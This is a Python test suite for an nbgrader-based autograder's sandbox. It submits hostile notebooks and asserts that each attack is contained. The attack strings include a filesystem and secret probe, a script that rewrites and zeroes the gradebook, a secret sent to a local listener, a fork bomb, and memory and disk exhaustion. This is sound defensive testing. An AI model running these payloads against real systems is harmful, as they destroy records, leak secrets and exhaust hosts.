"""Hostile submissions against the real sandbox.

Every attack is handed in as a student of a tiny real nbgrader course and graded
by the real `autograder grade` command with the real sandbox (bubblewrap,
resource limits, an unprivileged user), in each of its modes: as root with warm
kernels and with cold ones (a user id and a cgroup per kernel), and rootless, run
by a real ordinary user (a user namespace per kernel). Where a mode keeps an attack
out another way, the test says which. One grading run covers a whole group of
attackers plus honest students before and after them; the tests then read what
each attack saw (it prints it, and the autograded notebook keeps the output),
what the grader recorded (autograder.json, the gradebook, the final table) and
what is left on the host (the gradebook, processes, disk space).

One test grades with --no-sandbox, to show that the sandbox is what stands
between a submission and the gradebook.
"""

from __future__ import annotations

import json
import os
import secrets
import shutil
import socket
import sqlite3
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import nbformat
import pytest
from helpers import (
    ASSIGNMENT,
    POINTS,
    WARM_SANDBOX_MARK,
    copy_course,
    folder_of,
    give_to,
    gradebook_grades,
    graded_notebook,
    grader_report,
    hand_in_notebook,
    make_course,
    ordinary_user,
    printed,
    processes_with,
    run_autograder,
    run_autograder_as,
    sqlite_url,
    submit,
)

from autograder.cells import index_of
from autograder.sandbox import Limits, bubblewrap
from autograder.sandbox.host import FIRST_UID

pytestmark = pytest.mark.slow

CELL_TIMEOUT = 8
INSIDE_FOLDER = "autograder-inside"  # the grader's scripts inside the sandbox, and nothing else of ours
TOTAL_TIMEOUT = 16
FULL_MARKS = POINTS["test_double"] + POINTS["test_derivative"]  # "why" is graded by a person
SECRET_VARIABLE = "AUTOGRADER_TEST_SECRET"
MiB = 1 << 20
OVERFLOW_ID = 65534  # what a user namespace shows for an id it does not map

DOUBLE = "def double(x):\n    return 2 * x\n"
DERIVATIVE = ("def derivative(f, x):\n    x = x.detach().clone().requires_grad_(True)\n"
              "    (dx,) = torch.autograd.grad(f(x).sum(), x)\n    return dx\n")


def fill(code: str, **values) -> str:
    """Attack code with {{NAME}} replaced by repr(value)."""
    for name, value in values.items():
        code = code.replace("{{" + name + "}}", repr(value))
    assert "{{" not in code, code
    return code


# --------------------------------------------------------------------------- the attacks

# Looks for the gradebook, the solutions, other students' work and the grader's secrets.
PROBE = r'''
import json, os, subprocess, sys

def _see(path):
    try:
        if os.path.isdir(path):
            return "dir: " + " ".join(sorted(os.listdir(path)))
        with open(path, "rb") as f:
            return f"read {len(f.read())} bytes"
    except OSError as error:
        return f"{type(error).__name__}: {error.strerror}"

def _report(key, value):
    print("PROBE", json.dumps([key, value]))

course = {{COURSE}}
paths = ["gradebook.db", "../gradebook.db", "../../gradebook.db", "../../../gradebook.db",
         "../../../../gradebook.db", course + "/gradebook.db", course,
         "../source/tiny/tiny.ipynb", "../../source/tiny/tiny.ipynb", "../../../source/tiny/tiny.ipynb",
         course + "/source/tiny/tiny.ipynb", course + "/source",
         "../submitted/a_honest/tiny/tiny.ipynb", "../../submitted/a_honest/tiny/tiny.ipynb",
         course + "/submitted/a_honest/tiny/tiny.ipynb", course + "/submitted",
         course + "/autograded/a_honest/tiny/tiny.ipynb", course + "/release/tiny/tiny.ipynb",
         {{HOST_HOME_FILE}}, {{TESTS_DIR}}]
for path in paths:
    _report("see " + path, _see(path))
_report("home", _see({{HOST_HOME}}))

# Every file it can reach, but for the system, the Python installation and /proc.
_report("etc", _see("/etc"))
skip = {"/proc", "/sys", "/dev", "/usr", "/etc/alternatives", "/etc/fonts", "/etc/ssl"}
skip |= {os.path.realpath(p) for p in (sys.prefix, sys.base_prefix)}
found = []
for root, dirs, files in os.walk("/"):
    dirs[:] = [d for d in dirs if os.path.join(root, d) not in skip
               and os.path.realpath(os.path.join(root, d)) not in skip]
    found += [os.path.join(root, f) for f in files]
_report("files", sorted(found)[:1000])

# Destroy what it cannot read.
for path in ["../../gradebook.db", "../../../gradebook.db", course + "/gradebook.db"]:
    for name, attempt in [("remove", lambda: os.remove(path)),
                          ("truncate", lambda: open(path, "wb").close()),
                          ("rename", lambda: os.rename(path, path + ".gone"))]:
        try:
            attempt()
            _report(f"{name} {path}", "done")
        except OSError as error:
            _report(f"{name} {path}", type(error).__name__)

# Who it is, what it may do, what it inherits.
_report("ids", [os.getuid(), os.geteuid(), os.getgid(), os.getegid(), os.getgroups()])
_report("capabilities", [line.split()[1] for line in open("/proc/self/status") if line.startswith("Cap")])
try:
    os.setuid(0)
    _report("setuid", "became root")
except OSError as error:
    _report("setuid", type(error).__name__)
_report("env", dict(os.environ))
leaks = []
for pid in (p for p in os.listdir("/proc") if p.isdigit()):
    for part in ("environ", "cmdline"):
        try:
            with open(f"/proc/{pid}/{part}", "rb") as f:
                if {{SECRET}}.encode() in f.read():
                    leaks.append(f"/proc/{pid}/{part}")
        except OSError:
            pass
_report("secret in /proc", leaks)
processes = {}
for pid in (p for p in os.listdir("/proc") if p.isdigit()):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            processes[pid] = f.read().replace(b"\0", b" ").decode()[:200]
    except OSError:
        pass
_report("processes", processes)
ls = subprocess.run(["ls", "-A", "/"], capture_output=True, text=True)
_report("ls /", [ls.returncode, ls.stdout.split()])

# The instructor's keyring (keys go by user id), and memory that no process maps.
import ctypes, platform
libc = ctypes.CDLL(None, use_errno=True)
def _outcome(result):
    return "allowed" if result >= 0 else os.strerror(ctypes.get_errno())
keyctl = {"x86_64": 250, "aarch64": 219}.get(platform.machine())
_report("keyctl", _outcome(libc.syscall(keyctl, 0, -3, 0)) if keyctl else "unknown machine")  # the session keyring
try:
    os.close(os.memfd_create("probe"))
    _report("memfd", "allowed")
except OSError as error:
    _report("memfd", error.strerror)
shm = libc.shmget(0, 1 << 20, 0o1600)  # IPC_PRIVATE, IPC_CREAT | 0600
_report("sysv shm", _outcome(shm))
if shm >= 0:
    libc.shmctl(shm, 0, None)  # IPC_RMID
'''

# Rewrites the gradebook if it can find it: zeroes every grade, leaves a mark.
VANDAL = r'''
import json, os, sqlite3
candidates = ["gradebook.db", "../gradebook.db", "../../gradebook.db", "../../../gradebook.db",
              {{COURSE}} + "/gradebook.db"]
pid = os.getppid()
while pid > 1:  # the grader's command line names the course
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            args = f.read().decode().split("\0")
        if "--course" in args:
            candidates.append(os.path.join(args[args.index("--course") + 1], "gradebook.db"))
        with open(f"/proc/{pid}/stat") as f:
            pid = int(f.read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        break
outcome = {}
for path in candidates:
    try:
        db = sqlite3.connect(f"file:{path}?mode=rw", uri=True)
        db.execute("UPDATE grade SET manual_score = 0")
        db.execute("CREATE TABLE IF NOT EXISTS pwned (who TEXT)")
        db.commit()
        db.close()
        outcome[path] = "rewritten"
    except sqlite3.Error as error:
        outcome[path] = f"{type(error).__name__}: {error}"
print("VANDAL", json.dumps(outcome))
'''

NETCAT = r'''
import json, socket
result = {}
try:
    with socket.create_connection(("127.0.0.1", {{TCP_PORT}}), timeout=3) as s:
        s.sendall({{SECRET}}.encode())
    result["tcp"] = "sent"
except OSError as error:
    result["tcp"] = f"{type(error).__name__}: {error}"
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto({{SECRET}}.encode(), ("127.0.0.1", {{UDP_PORT}}))
    result["udp"] = "sent"
except OSError as error:
    result["udp"] = f"{type(error).__name__}: {error}"
with open("/proc/net/dev") as f:
    result["interfaces"] = sorted(line.split(":")[0].strip() for line in f.read().splitlines()[2:])
print("NET", json.dumps(result))
'''

# Uncaught: the answer cells fail, but the functions are defined before.
MEMORY_DOUBLE = DOUBLE + r'''
chunks = []
try:
    while True:
        chunks.append(bytearray(64 << 20))
except MemoryError:
    print("GOT", len(chunks) * 64)
del chunks
hog = bytearray(8 << 30)
'''
MEMORY_DERIVATIVE = DERIVATIVE + "hog = torch.ones(8 << 30, dtype=torch.uint8)\n"

# Children each try to hold 512 MiB at once. The sandbox's cgroup (or, rootless without one, the grader's
# memory watch) caps them together: past the cap some are killed, so the survivors hold no more than the limit.
MEMORY_FAN = r'''
import os, time
children = []
for _ in range(5):
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(r)
        try:
            block = b"\1" * (512 << 20)
            os.write(w, b"y")
        except MemoryError:
            os.write(w, b"n")
        time.sleep(60)
        os._exit(0)
    children.append(pid)
    os.close(w)  # a child killed before it answers closes the pipe: the read ends
    os.read(r, 1)
    os.close(r)
time.sleep(1)
held = sum(os.waitpid(pid, os.WNOHANG) == (0, 0) for pid in children)
print("FAN", held * 512)
for pid in children:
    os.kill(pid, 9)
    os.waitpid(pid, 0)
'''

DISK = r'''
import json, os
chunk = b"x" * (8 << 20)
def fill(folder, total, size):
    written, n, error = 0, 0, None
    try:
        os.makedirs(folder, exist_ok=True)
        while written < total:
            with open(os.path.join(folder, f"junk{n}"), "wb") as f:
                for _ in range(size // len(chunk)):
                    f.write(chunk)
                    written += len(chunk)
            n += 1
    except OSError as e:
        error = e.strerror
    return [written, error]
result = {}
result["one big file here"] = fill("big", 1 << 30, 1 << 30)
result["many files here"] = fill("many", 2 << 30, 32 << 20)
result["one big file in /tmp"] = fill("/tmp/big", 1 << 30, 1 << 30)
result["many files in /tmp"] = fill("/tmp/many", 2 << 30, 32 << 20)
result["/dev/shm"] = fill("/dev/shm/junk", 64 << 20, 64 << 20)
print("DISK", json.dumps(result))
'''

# The kernel's sockets live in a folder of the host's /tmp, bound into the sandbox.
RUN_DIR_FILLER = r'''
import os, sys
from ipykernel.kernelapp import IPKernelApp
run_dir = os.path.dirname(IPKernelApp.instance().connection_file)
chunk = b"x" * (8 << 20)
written = 0
try:
    for n in range(6):
        with open(os.path.join(run_dir, f"junk{n}"), "wb") as f:
            for _ in range(8):
                f.write(chunk)
                written += len(chunk)
except OSError as error:
    print("STOPPED", error.strerror)
print("WROTE", written)
'''

FORK_BOMB = r'''
import os, time
def bomb():
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.2)
forks = 0
while True:
    try:
        pid = os.fork()
    except OSError as error:
        print("FORKS", forks, type(error).__name__)
        break
    if pid == 0:
        bomb()
    forks += 1
'''

LOOP = "while True:\n    pass\n"
STUBBORN = r'''
import os, signal, time
for sig in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP):
    signal.signal(sig, signal.SIG_IGN)
if os.fork() == 0:  # a child that tries to outlive its kernel
    os.setsid()
    while True:
        time.sleep(0.1)
while True:
    try:
        while True:
            pass
    except KeyboardInterrupt:
        pass
'''


# --------------------------------------------------------------------------- listeners and monitors


@dataclass
class Listener:
    """TCP and UDP servers on 127.0.0.1 in this process: what reached them."""

    tcp_port: int = 0
    udp_port: int = 0
    received: list[str] = field(default_factory=list)
    stop: threading.Event = field(default_factory=threading.Event)


def _serve(listener: Listener, tcp: socket.socket, udp: socket.socket, lifetime: float) -> None:
    deadline = time.monotonic() + lifetime
    tcp.settimeout(0.2)
    udp.settimeout(0.01)
    while not listener.stop.is_set() and time.monotonic() < deadline:
        try:
            conn, _ = tcp.accept()
            with conn:
                conn.settimeout(1)
                listener.received.append("tcp connection: " + conn.recv(1024).decode(errors="replace"))
        except OSError:
            pass
        try:
            data, _ = udp.recvfrom(1024)
            listener.received.append("udp datagram: " + data.decode(errors="replace"))
        except OSError:
            pass
    tcp.close()
    udp.close()


@pytest.fixture(scope="module")
def listener():
    tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    tcp.bind(("127.0.0.1", 0))
    tcp.listen(8)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    found = Listener(tcp.getsockname()[1], udp.getsockname()[1])
    thread = threading.Thread(target=_serve, args=(found, tcp, udp, 600), daemon=True)
    thread.start()
    yield found
    found.stop.set()
    thread.join(5)


class DiskWatch:
    """Largest drop of free space on the file systems of `paths` while a block runs."""

    def __init__(self, *paths: Path) -> None:
        by_device = {os.stat(p).st_dev: p for p in paths}
        self.paths = list(by_device.values())
        self.before = {p: shutil.disk_usage(p).free for p in self.paths}
        self.lowest = dict(self.before)
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._watch, daemon=True)

    def _watch(self) -> None:
        while not self._stop.wait(0.05):
            for p in self.paths:
                self.lowest[p] = min(self.lowest[p], shutil.disk_usage(p).free)

    def __enter__(self):
        self._thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self._stop.set()
        self._thread.join()

    @property
    def drop(self) -> int:
        return max(self.before[p] - self.lowest[p] for p in self.paths)


# --------------------------------------------------------------------------- reading the results


def cell(nb: nbformat.NotebookNode, wanted: str):
    return nb.cells[index_of(nb.cells, wanted)]


def errors(nb: nbformat.NotebookNode, grade_id: str) -> list[tuple[str, str]]:
    return [(o.ename, o.evalue) for o in cell(nb, grade_id).get("outputs", []) if o.output_type == "error"]


def scores(course: Path, student: str) -> dict[str, float]:
    """Test grade_id -> the score the gradebook holds (a person's score, if any, wins over the tests')."""
    rows = gradebook_grades(sqlite_url(course))[student]
    return {gid: row.score for gid, row in rows.items() if gid.startswith("test_")}


def autoscore(course: Path, student: str) -> float:
    return sum(scores(course, student).values())


def table_row(stdout: str, student: str) -> str:
    """The student's row in the last table printed."""
    return [line for line in stdout.splitlines() if line.split()[:1] == [student]][-1]


# --------------------------------------------------------------------------- the sandboxed batch

ATTACKERS: dict[str, Callable[[dict], dict[str, str]]] = {
    "b_probe": lambda v: {"double": fill(PROBE, **v) + DOUBLE},
    "c_vandal": lambda v: {"double": fill(VANDAL, COURSE=v["COURSE"]) + DOUBLE},
    "d_netcat": lambda v: {"double": fill(NETCAT, **{k: v[k] for k in ("TCP_PORT", "UDP_PORT")},
                                          SECRET=v["NET_SECRET"]) + DOUBLE},
    "e_memory": lambda v: {"double": MEMORY_DOUBLE, "derivative": MEMORY_DERIVATIVE},
    "f_memory_fan": lambda v: {"double": MEMORY_FAN + DOUBLE},
    "g_disk": lambda v: {"double": DISK + DOUBLE},
    "h_fork_bomb": lambda v: {"double": FORK_BOMB + DOUBLE},
    # i_after_fork_bomb: an honest student, graded right after the fork bomb
    "j_loop": lambda v: {"double": LOOP + DOUBLE},
    "k_stubborn": lambda v: {"double": STUBBORN + DOUBLE},
    "l_exit": lambda v: {"double": "import os\ndef double(x):\n    os._exit(0)\n"},
    "m_kill": lambda v: {"double": "import os\ndef double(x):\n    os.kill(os.getpid(), 9)\n"},
    "n_sys_exit": lambda v: {"double": "import sys\ndef double(x):\n    sys.exit()\n"},
    "o_quit": lambda v: {"double": "exit()\n" + DOUBLE},
    "p_slow": lambda v: {"double": f"import time\ntime.sleep({CELL_TIMEOUT - 1})\n" + DOUBLE,
                         "derivative": "time.sleep(60)\n" + DERIVATIVE},
}
HONEST = ["a_honest", "i_after_fork_bomb", "z_honest"]


@dataclass(frozen=True)
class Grader:
    """The real `autograder grade` in one mode: as root, with warm kernels (the default) or cold ones
    (--cold), or rootless, run by an ordinary user (runuser)."""

    mode: str
    env: dict[str, str]  # what it runs with: TMPDIR, the secret, (rootless) the user's home
    user: Any = None  # the ordinary user who runs it, rootless

    @property
    def options(self) -> list[str]:
        return ["--cold"] if self.mode == "cold" else []

    def grade(self, course: Path, *args: str) -> subprocess.CompletedProcess:
        args = ("grade", ASSIGNMENT, *self.options, "--timeout", str(CELL_TIMEOUT),
                "--total-timeout", str(TOTAL_TIMEOUT), *args)
        if self.mode == "rootless":
            return run_autograder_as(self.user, course, *args, env=self.env, timeout=600)
        with pytest.MonkeyPatch.context() as mp:
            for name, value in self.env.items():
                mp.setenv(name, value)
            return run_autograder(course, *args, timeout=600)


@dataclass
class Batch:
    grader: Grader
    course: Path
    stdout: str
    stderr: str
    returncode: int
    seconds: float
    disk_drop: int
    processes_after: list[int]
    listener: Listener
    values: dict

    @property
    def mode(self) -> str:
        return self.grader.mode

    def nb(self, student: str) -> nbformat.NotebookNode:
        return graded_notebook(self.course, student)

    def report(self, student: str) -> dict:
        return grader_report(self.course, student)

    def probe(self) -> dict:
        return dict(json.loads(line) for line in printed(self.nb("b_probe"), "PROBE"))

    @property
    def launcher(self) -> str:
        """The grader's program inside the sandbox, in the one folder of ours the kernel sees."""
        return f"{INSIDE_FOLDER}/zygote.py" if self.mode == "warm" else f"{INSIDE_FOLDER}/launch.py"


@pytest.fixture(scope="module")
def pristine(tmp_path_factory) -> Path:
    """The course as nbgrader generated it, nothing handed in; each scenario grades a copy."""
    return make_course(tmp_path_factory.mktemp("pristine") / "course")


# Every sandboxed kernel runs as the same user (sandbox.FIRST_UID + slot 0), and RLIMIT_NPROC counts that
# user's processes machine-wide: while another grader (another test session) runs kernels, a kernel here can
# die before it starts. That is no student's doing: those students are graded again, once (but never the
# one graded right after the fork bomb, whose test is about exactly that).
BAD_LUCK = ("Kernel died before replying to kernel_info", "Kernel didn't respond in 60 seconds",
            "Resource temporarily unavailable")


@pytest.fixture(scope="module")
def private_tmp():
    """The graders' TMPDIR: the kernels' run folders land here, so their processes can be told apart
    from those of other graders running on this machine (a kernel's command line names its run folder)."""
    folder = Path(tempfile.mkdtemp(prefix="agsbx-"))  # short: Unix socket paths live under it
    yield folder
    shutil.rmtree(folder, ignore_errors=True)


def lingering(tag: str, wait: float = 10) -> list[int]:
    deadline = time.monotonic() + wait  # a pid namespace takes a moment to empty
    while (left := processes_with(tag.encode())) and time.monotonic() < deadline:
        time.sleep(0.2)
    return sorted(map(int, left))


@pytest.fixture(scope="module", params=["warm", "cold", "rootless"])
def batch(request, pristine, tmp_path_factory, listener, private_tmp) -> Batch:
    bubblewrap()  # the sandbox must be available: these tests are about it
    mode = request.param
    secret = secrets.token_hex(16)
    env = {SECRET_VARIABLE: secret, "TMPDIR": str(private_tmp)}
    if mode == "rootless":
        # the instructor without sudo: an ordinary user grading a course of theirs, with a home of theirs
        user = ordinary_user()
        place = folder_of(user)
        course, home = place / "course", place / "home"
        shutil.copytree(pristine, course)
        home.mkdir()
        (home / "notes.txt").write_text("the instructor's own notes\n")
        grader = Grader(mode, {**env, "HOME": str(home)}, user)
    else:
        if os.geteuid() != 0:
            pytest.skip("the root sandbox (a user id and a cgroup per kernel) needs root: run the tests as root")
        place = None
        course = copy_course(pristine, tmp_path_factory, f"sandbox-{mode}")
        home = Path.home()
        grader = Grader(mode, env)
    home_file = next((str(p) for p in sorted(home.iterdir()) if p.is_file()), str(home / ".bashrc"))
    values = {
        "COURSE": str(course), "HOST_HOME": str(home), "HOST_HOME_FILE": home_file,
        "TESTS_DIR": str(Path(__file__).parent),
        "TCP_PORT": listener.tcp_port, "UDP_PORT": listener.udp_port,
        "SECRET": secret, "NET_SECRET": secrets.token_hex(16),
    }
    for student in HONEST:
        submit(course, student, hand_in_notebook(course))
    for student, answers in ATTACKERS.items():
        submit(course, student, hand_in_notebook(course, answers(values)))
    if place is not None:
        give_to(place, grader.user)
        give_to(private_tmp, grader.user)
    started = time.monotonic()
    with DiskWatch(course, private_tmp) as disk:
        result = grader.grade(course)
        stdout = result.stdout
        # bad luck: a kernel that did not start is not recorded (exit 3), one that died starting is
        unlucky = [s for s in HONEST + list(ATTACKERS) if s != "i_after_fork_bomb" and (
                   not (course / "autograded" / s / ASSIGNMENT / "autograder.json").is_file()
                   or any(sign in f for f in grader_report(course, s)["failures"] for sign in BAD_LUCK))]
        if result.returncode in (0, 3) and unlucky:
            stdout += grader.grade(course, *[f"--student={s}" for s in unlucky]).stdout
    # a cold sandbox names its run folder (in TMPDIR) on its command line; a warm kernel is its zygote's fork
    tag = WARM_SANDBOX_MARK.decode() if mode == "warm" else str(private_tmp)
    yield Batch(grader, course, stdout, result.stderr, result.returncode, time.monotonic() - started, disk.drop,
                lingering(tag), listener, values)
    if place is not None:
        shutil.rmtree(place, ignore_errors=True)


def test_batch_finishes_with_status_0_and_lists_every_failure(batch):
    assert batch.returncode == 0, batch.stderr[-3000:]
    students = HONEST + list(ATTACKERS)
    for student in students:
        row = table_row(batch.stdout, student)
        failures = batch.report(student)["failures"]
        if failures:
            assert all(f in row for f in failures), row
        else:
            assert row.endswith(" -"), row
    failed = {s for s in students if batch.report(s)["failures"]}
    assert {"j_loop", "k_stubborn", "l_exit", "m_kill", "o_quit", "p_slow"} <= failed
    assert not failed & {"a_honest", "z_honest", "b_probe", "c_vandal", "d_netcat", "e_memory", "g_disk"}


@pytest.mark.parametrize("student", ["a_honest", "z_honest"])
def test_honest_students_get_full_marks(batch, student):
    assert batch.report(student)["failures"] == []
    assert scores(batch.course, student) == {"test_double": POINTS["test_double"],
                                             "test_derivative": POINTS["test_derivative"]}


# 1. The gradebook


@pytest.mark.parametrize("path", ["gradebook.db", "../gradebook.db", "../../gradebook.db", "../../../gradebook.db",
                                  "../../../../gradebook.db", "{course}/gradebook.db", "{course}"])
def test_the_gradebook_is_not_there(batch, path):
    seen = batch.probe()["see " + path.format(course=batch.course)]
    assert seen == "FileNotFoundError: No such file or directory"


def test_the_gradebook_cannot_be_removed_or_truncated(batch):
    attempts = {k: v for k, v in batch.probe().items() if k.split()[0] in ("remove", "truncate", "rename")}
    assert len(attempts) == 9
    assert all(v in ("FileNotFoundError", "PermissionError", "OSError") for v in attempts.values()), attempts


def test_the_gradebook_cannot_be_rewritten(batch):
    (line,) = printed(batch.nb("c_vandal"), "VANDAL")
    outcome = json.loads(line)
    assert outcome and all(v.startswith("OperationalError: unable to open database file")
                           for v in outcome.values()), outcome
    with sqlite3.connect(batch.course / "gradebook.db") as db:
        tables = {name for (name,) in db.execute("SELECT name FROM sqlite_master WHERE type = 'table'")}
        manual = db.execute("SELECT count(*) FROM grade WHERE manual_score IS NOT NULL").fetchone()[0]
    assert "pwned" not in tables
    assert manual == 0
    # graded before the vandal, and untouched by it
    assert autoscore(batch.course, "a_honest") == FULL_MARKS
    # the vandal did answer correctly: its own score is its own
    assert autoscore(batch.course, "c_vandal") == FULL_MARKS


# 2. Solutions, hidden tests, other students, the home folder


@pytest.mark.parametrize("path", [
    "../source/tiny/tiny.ipynb", "../../source/tiny/tiny.ipynb", "../../../source/tiny/tiny.ipynb",
    "{course}/source/tiny/tiny.ipynb", "{course}/source", "{course}/release/tiny/tiny.ipynb",
    "../submitted/a_honest/tiny/tiny.ipynb", "../../submitted/a_honest/tiny/tiny.ipynb",
    "{course}/submitted/a_honest/tiny/tiny.ipynb", "{course}/submitted",
    "{course}/autograded/a_honest/tiny/tiny.ipynb",
])
def test_solutions_and_other_submissions_are_not_there(batch, path):
    seen = batch.probe()["see " + path.format(course=batch.course)]
    assert seen == "FileNotFoundError: No such file or directory"


def _python_under(folder: str) -> set[str]:
    """First path components under `folder` of the Python installation the sandbox must show."""
    names = set()
    for prefix in {sys.prefix, sys.base_prefix, os.path.realpath(sys.base_prefix)}:
        if prefix.startswith(folder.rstrip("/") + "/"):
            names.add(Path(prefix).relative_to(folder).parts[0])
    return names


def test_the_home_folder_is_not_there(batch):
    probe = batch.probe()
    home = batch.values["HOST_HOME"]
    seen = probe["home"]
    if seen.startswith("dir: "):  # only the part of it that holds the Python installation
        assert set(seen[len("dir: "):].split()) <= _python_under(home), seen
    else:
        assert seen == "FileNotFoundError: No such file or directory"
    assert probe["see " + batch.values["HOST_HOME_FILE"]] == "FileNotFoundError: No such file or directory"
    assert probe["see " + batch.values["TESTS_DIR"]] == "FileNotFoundError: No such file or directory"


def test_no_file_of_the_course_or_host_is_reachable(batch):
    probe = batch.probe()
    files = probe["files"]
    assert "/" + batch.launcher in files, "the walk did not run"
    assert set(probe["etc"][len("dir: "):].split()) <= {"alternatives", "fonts", "ld.so.cache", "localtime", "ssl"}
    outside = [f for f in files if not f.startswith(("/etc/ld.so.cache", "/etc/localtime", "/tmp/", "/submission/",
                                                    f"/{INSIDE_FOLDER}/"))]
    assert outside == []
    assert len(files) < 1000
    assert not [f for f in files if f.endswith((".db", ".ipynb"))]


# 3. Network


def test_no_network_even_to_the_hosts_loopback(batch):
    (line,) = printed(batch.nb("d_netcat"), "NET")
    result = json.loads(line)
    assert result["tcp"].startswith(("ConnectionRefusedError", "OSError: [Errno 101]")), result
    assert result["interfaces"] == ["lo"]  # its own loopback only, no way out
    assert not {"/etc/resolv.conf", "/etc/hosts"} & set(batch.probe()["files"])  # nothing to resolve names with
    assert batch.listener.received == []
    assert autoscore(batch.course, "d_netcat") == FULL_MARKS


# 4. Processes


def test_subprocesses_see_only_the_sandbox(batch):
    probe = batch.probe()
    returncode, entries = probe["ls /"]
    assert returncode == 0
    sandbox = {INSIDE_FOLDER, "bin", "dev", "etc", "lib", "lib64", "proc", "sbin", "submission", "tmp",
               "usr", "assignment-data"}
    if batch.mode == "warm":  # empty mount points: what the kernel unmounted, or moved to /tmp, before student code
        sandbox |= {"run", "sys", ".kernel-tmp"}
    assert set(entries) <= sandbox | _python_under("/"), entries
    commands = probe["processes"]
    assert "1" in commands and len(commands) < 10, commands  # its own pid namespace
    assert not [c for c in commands.values() if "autograder" in c and " grade " in c]
    assert not [c for c in commands.values() if "pytest" in c]


def test_a_fork_bomb_is_bounded_and_does_not_stop_the_batch(batch):
    (line,) = printed(batch.nb("h_fork_bomb"), "FORKS")
    forks, error = line.split()
    assert int(forks) < Limits().processes and error == "BlockingIOError"
    report = batch.report("h_fork_bomb")
    assert report["failures"] == [] and report["score"] == FULL_MARKS
    assert batch.processes_after == [], "sandboxed processes outlived the batch"


def test_the_student_after_a_fork_bomb_is_graded_normally(batch):
    assert batch.report("i_after_fork_bomb")["failures"] == []
    assert autoscore(batch.course, "i_after_fork_bomb") == FULL_MARKS


# 5. Memory


def test_memory_beyond_the_limit_fails_the_allocation_only(batch):
    nb = batch.nb("e_memory")
    (got,) = printed(nb, "GOT")
    assert 0 < int(got) * MiB < Limits().memory_bytes
    assert errors(nb, "double") == [("MemoryError", "")]
    ((name, message),) = errors(nb, "derivative")
    assert name == "RuntimeError" and "allocate" in message
    assert batch.report("e_memory")["failures"] == []
    assert autoscore(batch.course, "e_memory") == FULL_MARKS


def test_the_memory_limit_holds_for_the_whole_sandbox(batch):
    (held,) = printed(batch.nb("f_memory_fan"), "FAN")
    assert int(held) * MiB <= Limits().memory_bytes


# 6. Disk


def test_disk_writes_are_bounded(batch):
    (line,) = printed(batch.nb("g_disk"), "DISK")
    result = json.loads(line)
    limits = Limits()
    for where in ("one big file here", "one big file in /tmp"):
        assert result[where] == [limits.file_bytes, "File too large"], where
    # the working folder and /tmp are each a tmpfs of disk_bytes: the big file counts
    for where in ("many files here", "many files in /tmp"):
        written, error = result[where]
        assert error == "No space left on device" and written <= limits.disk_bytes - limits.file_bytes, where
    # root: /dev is root's; rootless: what bwrap made is the kernel's user's, so it is read-only
    assert result["/dev/shm"] == [0, "Read-only file system" if batch.mode == "rootless" else "Permission denied"]
    assert batch.disk_drop < 300 * MiB
    assert autoscore(batch.course, "g_disk") == FULL_MARKS


@pytest.fixture(scope="module")
def run_dir_filler(batch, private_tmp) -> tuple[str, int, int]:
    """Graded on its own, after the batch: (what it printed, returncode, host disk drop)."""
    student = "y_run_dir"
    submit(batch.course, student, hand_in_notebook(batch.course, {"double": RUN_DIR_FILLER + DOUBLE}))
    if batch.grader.user is not None:
        give_to(batch.course / "submitted" / student, batch.grader.user)
    with DiskWatch(private_tmp) as disk:
        result = batch.grader.grade(batch.course, "--student", student)
    (wrote,) = printed(graded_notebook(batch.course, student), "WROTE")
    return wrote, result.returncode, disk.drop


def test_the_kernels_run_folder_cannot_fill_the_host_disk(run_dir_filler):
    wrote, returncode, drop = run_dir_filler
    assert returncode == 0
    assert int(wrote) < Limits().disk_bytes and drop < Limits().disk_bytes


# 7. Time


@pytest.mark.parametrize("student", ["j_loop", "k_stubborn"])
def test_an_endless_cell_is_stopped_at_the_cell_time_limit(batch, student):
    report = batch.report(student)
    assert report["failures"] == ["tiny: cell 2 ran past a cell's time limit and was stopped"]
    assert CELL_TIMEOUT <= report["notebooks"][0]["seconds"] < CELL_TIMEOUT + 15
    nb = batch.nb(student)
    for test in ("test_double", "test_derivative"):
        assert errors(nb, test) == [("NotRun", "not graded: cell 2 ran past a cell's time limit and was stopped")]
    assert "The run stopped early" in nb.cells[0].source
    assert autoscore(batch.course, student) == 0


def test_a_slow_submission_is_stopped_at_the_total_time_limit(batch):
    report = batch.report("p_slow")
    ((failure,),) = [report["failures"]]
    assert "the whole submission's time limit" in failure
    assert report["notebooks"][0]["seconds"] < TOTAL_TIMEOUT + 5
    nb = batch.nb("p_slow")
    assert errors(nb, "test_double") == []
    ((name, _),) = errors(nb, "test_derivative")
    assert name == "NotRun"
    assert scores(batch.course, "p_slow")["test_double"] == POINTS["test_double"]
    assert scores(batch.course, "p_slow")["test_derivative"] == 0


# 8. Killing its own kernel


@pytest.mark.parametrize("student", ["l_exit", "m_kill"])
def test_a_kernel_killed_by_a_tested_function_is_recorded(batch, student):
    report = batch.report(student)
    failure = "the kernel died while running cell 3 (the code exited the kernel, crashed it, or went over a limit)"
    assert report["failures"] == [f"tiny: {failure}"]
    nb = batch.nb(student)
    for test in ("test_double", "test_derivative"):
        assert errors(nb, test) == [("NotRun", f"not graded: {failure}")]
    assert autoscore(batch.course, student) == 0


def test_sys_exit_in_a_tested_function_fails_that_test_only(batch):
    nb = batch.nb("n_sys_exit")
    assert errors(nb, "test_double") == [("SystemExit", "")]
    assert batch.report("n_sys_exit")["failures"] == []
    assert scores(batch.course, "n_sys_exit")["test_double"] == 0
    assert scores(batch.course, "n_sys_exit")["test_derivative"] == POINTS["test_derivative"]


def test_exit_in_an_answer_cell_is_recorded(batch):
    ((failure,),) = [batch.report("o_quit")["failures"]]
    assert "the kernel died while running cell" in failure
    nb = batch.nb("o_quit")
    assert [name for name, _ in errors(nb, "test_derivative")] == ["NotRun"]
    assert autoscore(batch.course, "o_quit") <= POINTS["test_double"]


